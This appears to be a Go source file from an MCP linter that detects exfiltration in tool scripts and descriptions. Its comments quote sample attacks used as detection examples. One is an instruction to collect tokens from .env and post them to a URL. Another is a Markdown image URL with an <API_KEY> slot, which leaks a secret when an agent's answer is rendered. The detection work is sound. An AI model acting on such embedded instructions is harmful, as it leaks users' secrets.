package exfiltration

import (
	"strings"

	"github.com/mcp-lint/mcp-lint/detect/internal/reading"
)

// egressRule is the rule directive.go gives a hit of code flow in a
// script unit: its own ID for the kinds this file reports, "" otherwise.
func EgressRule(v *reading.ToolView, hit reading.ShellHit) string {
	if v.Tool.Kind == reading.KindScript && (hit.Kind == reading.EgressKind || hit.Kind == reading.RunKind) {
		return hit.ID
	}
	return ""
}

// flowAhead: in a script unit, hit has no rule of this file and a hit
// of this file starts after it before end (the same sentence of the
// code): the flow, not a pattern of one of its lines, is the finding.
func FlowAhead(v *reading.ToolView, hits []reading.ShellHit, hit reading.ShellHit, end int) bool {
	if v.Tool.Kind != reading.KindScript || EgressKinds(hit.Kind) {
		return false
	}
	// A hit the shell's reading already gives its rule is kept where it
	// is read (a download's line).
	if reading.HookFlowKinds[hit.Kind] || hit.ID == reading.SecretFlowRule && reading.CommandSendsOut(v.FieldText[hit.Span.Start:hit.Span.End]) ||
		reading.InstallKinds[hit.Kind] && reading.ConceptReadings.RemoteRunTold(v.FieldText, v.Tool.Name, v.OtherText(), hit.Span) {
		return false
	}
	for _, h := range hits {
		if EgressKinds(h.Kind) && h.Span.Start >= hit.Span.Start && h.Span.Start < end {
			return true
		}
	}
	return false
}

// egressKinds: kind is one this file reports.
func EgressKinds(kind string) bool {
	return kind == reading.EgressKind || kind == reading.RunKind
}

// anaphorTakesUp: the k-th demand's object is a pronoun that takes up
// the object the order before it names, in the same field ("Collect the
// tokens from .env. Then post them to https://..."): its address is kept
// for joinAnaphora, which routes that object there. An address with no
// object at all (what skills that mail and publish name) is still left
// to the exfil cues (instructionDemands).
func AnaphorTakesUp(ds []reading.SentenceDemand, k int) bool {
	return k > 0 && ds[k].Anaphor && ds[k].ObjectKind == "" && ds[k-1].ObjectKind != "" && ds[k-1].Field == ds[k].Field && ds[k-1].Mood
}

// imagePathCarries: the Markdown image whose destination starts at
// byte off of raw carries a source in its address's path or host, not
// only in its query (linkCarriesData): a segment or a host label that is
// a slot the agent fills (<...>, {...}, $NAME, CAPS_NAME) naming a
// secret, the conversation, facts about the user or the user's files
// (slotNamesSource): "![s](https://img.host/b/<API_KEY>.png)". A client
// fetches an image as it renders the answer, so the host receives the
// path. Only images: a link's path slot is a documented endpoint the
// user fills in (a webhook's /services/<TOKEN>) and follows or not.
func ImagePathCarries(raw string, off int) bool {
	if off < 3 || off > len(raw) || raw[off-1] != '(' || raw[off-2] != ']' {
		return false
	}
	line := raw[:off-2]
	if k := strings.LastIndexByte(line, '\n'); k >= 0 {
		line = line[k+1:]
	}
	k := strings.LastIndexByte(line, '[')
	if k < 1 || line[k-1] != '!' {
		return false
	}
	dest := raw[off:destinationEnd(raw, off, " )?#")]
	i := strings.Index(dest, "://")
	if i < 0 {
		return false
	}
	for _, part := range strings.FieldsFunc(dest[i+3:], func(r rune) bool { return r == '/' || r == '.' }) {
		slot := ""
		switch {
		case part[0] == '<' || part[0] == '{':
			slot = strings.Trim(part, "<>{}$")
		case part[0] == '$' || capsSlot(part):
			slot = strings.Trim(part, "{}$")
		}
		if slot != "" && (reading.SecretNamed(reading.Lower(slot)) || slotNamesSource(slot) && !workDataSlot(slot)) {
			return true
		}
	}
	return false
}

// workDataSlot: a word of slot names the user's files or code (repo,
// file, project): in an address's path, an identifier of where.
func workDataSlot(slot string) bool {
	for _, w := range reading.SplitNameRunes(slot) {
		if reading.WsAskWorkData.Has(reading.Lower(w)) {
			return true
		}
	}
	return false
}

// codeInert: in code text (not shell), the command at span sp stands
// in a string literal that nothing runs: its statement calls no run
// function (names.egress-run-call), and no later statement hands a
// run function the name the statement binds, or a name bound from that
// one. A sample event's command line in a data generator, a pattern a
// scanner looks for, a message: data, not code the script runs.
func CodeInert(text string, sp reading.Span) bool {
	spans := reading.CodeSpans(text)
	at := -1
	for k, c := range spans {
		if sp.Start >= c[0] && sp.Start < c[1] {
			at = k
			break
		}
	}
	if at < 0 {
		return false
	}
	seg := text[spans[at][0]:spans[at][1]]
	if !quotedAt(seg, sp.Start-spans[at][0]) {
		return false
	}
	st, ok := reading.CodeStatement(text, spans[at][0], spans[at][1])
	if !ok || runsIn(st) {
		return false
	}
	for _, c := range spans {
		// A script that writes files may write the literal where it
		// runs or is read again (a workflow, the agent's settings).
		if w, ok := reading.CodeStatement(text, c[0], c[1]); ok && reading.CodeWrites(w) {
			return false
		}
	}
	names := map[string]bool{}
	for _, n := range reading.Bound(st) {
		names[n] = true
	}
	for _, c := range spans[at+1:] {
		if len(names) == 0 {
			break
		}
		later, ok := reading.CodeStatement(text, c[0], c[1])
		if !ok {
			continue
		}
		uses := false
		for _, id := range later.Idents {
			uses = uses || names[id]
		}
		if !uses {
			continue
		}
		if runsIn(later) {
			return false
		}
		for _, n := range reading.Bound(later) {
			names[n] = true
		}
	}
	return true
}

// runsIn: statement st calls a function that runs code or a program.
func runsIn(st reading.CodeStmt) bool {
	for _, id := range st.Idents {
		if reading.EgressRunCalls.Has(id) {
			return true
		}
	}
	return false
}

// quotedAt: byte at of s is inside a quoted literal.
func quotedAt(s string, at int) bool {
	var q byte
	for i := 0; i < len(s) && i < at; i++ {
		c := s[i]
		switch {
		case q != 0 && c == '\\':
			i++
		case q != 0 && c == q:
			q = 0
		case q == 0 && (c == '\'' || c == '"' || c == '`'):
			q = c
		}
	}
	return q != 0
}
